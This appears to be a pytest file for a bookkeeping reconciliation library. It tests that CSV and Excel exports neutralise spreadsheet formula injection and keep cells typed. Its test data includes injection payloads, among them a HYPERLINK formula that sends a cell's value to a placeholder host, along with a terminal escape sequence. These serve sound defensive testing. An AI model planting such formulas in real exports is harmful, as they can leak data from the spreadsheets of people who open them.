"""Spreadsheets never run a formula: CSV cells neutralised, workbook cells typed.

The journal code comes from the input; ``=HYPERLINK(...)``, ``+1+1``,
``-1+1`` or ``@SUM(1)`` written as it is becomes a live formula when the CSV
opens in a spreadsheet. The CSV puts ``'`` before such text (the OWASP rule),
and the workbook stores it as text.
"""

from __future__ import annotations

import csv
import datetime as dt
import importlib
import io
from typing import Any

import pytest

from booking_reconcile import InputFormatError, Integration, Invoice, Snapshot, plan_repair
from booking_reconcile.formats import deletions_to_csv, deletions_to_xlsx
from booking_reconcile.formats.spreadsheet import (
    DELETIONS_SHEET,
    NEXT_NUMBERS_SHEET,
    TICK_COLUMN,
    neutralised,
)
from builders import day

openpyxl = pytest.importorskip("openpyxl")

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"open")', "+1+1", "-1+1", "@SUM(1)", "\tx", "\rx"]


def _plan(journal: str) -> object:
    return plan_repair(
        Snapshot(
            Integration(journal, journal),
            [
                Invoice("B", day(1, 6), 1002),
                Invoice("C", day(1, 10), 1002),
                Invoice("=1+2", day(1, 12), 1003),
            ],
        )
    )


@pytest.mark.parametrize("journal", FORMULAS[:4], ids=["equals", "plus", "minus", "at"])
def test_csv_neutralises_a_cell_that_starts_like_a_formula(journal: str) -> None:
    rows = list(csv.reader(io.StringIO(deletions_to_csv(_plan(journal)))))
    assert [row[0] for row in rows[1:]] == [f"'{journal}"] * 2


@pytest.mark.parametrize("text", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_the_owasp_rule_prefixes_every_formula_start(text: str) -> None:
    assert neutralised(text) == f"'{text}"


@pytest.mark.parametrize("value", ["70", "invoice =1", "2026-01-05", 1002, None])
def test_other_cells_stay_as_they_are(value: object) -> None:
    assert neutralised(value) == value


def test_csv_with_a_semicolon_and_a_bom_opens_in_comma_decimal_spreadsheets() -> None:
    text = deletions_to_csv(_plan("70"), delimiter=";", bom=True)
    assert text.startswith("\ufeffjournal;financial_year;booking_number;document;date;step\n")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[1] == ["70", "", "1003", "invoice =1+2", "2026-01-12", "delete-bookings"]


@pytest.mark.parametrize("delimiter", ["", ";;", '"', "\n", "a", "1"])
def test_a_delimiter_that_cannot_separate_cells_is_refused(delimiter: str) -> None:
    with pytest.raises(ValueError, match="delimiter"):
        deletions_to_csv(_plan("70"), delimiter=delimiter)


def _workbook(journal: str) -> object:
    return openpyxl.load_workbook(io.BytesIO(deletions_to_xlsx(_plan(journal))))


@pytest.mark.parametrize(
    "journal", [*FORMULAS[:4], "1\x1b[2J"], ids=["eq", "plus", "minus", "at", "esc"]
)
def test_no_workbook_cell_is_a_formula(journal: str) -> None:
    workbook = _workbook(journal)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    journals = [row[1].value for row in workbook[DELETIONS_SHEET].iter_rows(min_row=2)]
    shown = journal.replace("\x1b", "\\x1b")  # a workbook holds no control character
    assert journals == [shown, shown]


def test_the_workbook_lists_deletions_in_order_to_tick_off_and_next_numbers_apart() -> None:
    workbook = _workbook("70")
    assert workbook.sheetnames == [DELETIONS_SHEET, NEXT_NUMBERS_SHEET]
    deletions = [[cell.value for cell in row] for row in workbook[DELETIONS_SHEET].iter_rows()]
    assert deletions[0][-2:] == [TICK_COLUMN, "step"]
    assert [row[0] for row in deletions[1:]] == [1, 2]
    assert [row[3] for row in deletions[1:]] == [1003, 1002]
    assert [row[4] for row in deletions[1:]] == ["invoice =1+2", "invoice C"]
    assert [row[5] for row in deletions[1:]] == [dt.datetime(2026, 1, 12), dt.datetime(2026, 1, 10)]
    assert [row[-2:] for row in deletions[1:]] == [[None, "delete-bookings"]] * 2
    numbers = [[cell.value for cell in row] for row in workbook[NEXT_NUMBERS_SHEET].iter_rows()]
    assert numbers[0][:3] == ["journal", "financial year", "next"]
    assert numbers[1][0] == "70"
    assert numbers[1][2] == 1003  # B keeps #1002 (stale), so max(1002, 1002 + 1)


def test_workbook_cells_are_typed() -> None:
    sheet = _workbook("70")[DELETIONS_SHEET]
    first = next(sheet.iter_rows(min_row=2))
    assert [cell.data_type for cell in first[:6]] == ["n", "s", "n", "n", "s", "d"]


def test_without_openpyxl_the_workbook_is_the_librarys_error_saying_how_to_install_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    real = importlib.import_module

    def without_openpyxl(name: str, *args: Any) -> Any:
        if name == "openpyxl":
            raise ImportError(name)
        return real(name, *args)

    monkeypatch.setattr(importlib, "import_module", without_openpyxl)
    with pytest.raises(InputFormatError) as raised:
        deletions_to_xlsx(_plan("70"))
    assert "pip install 'booking_reconcile[excel]'" in raised.value.reason
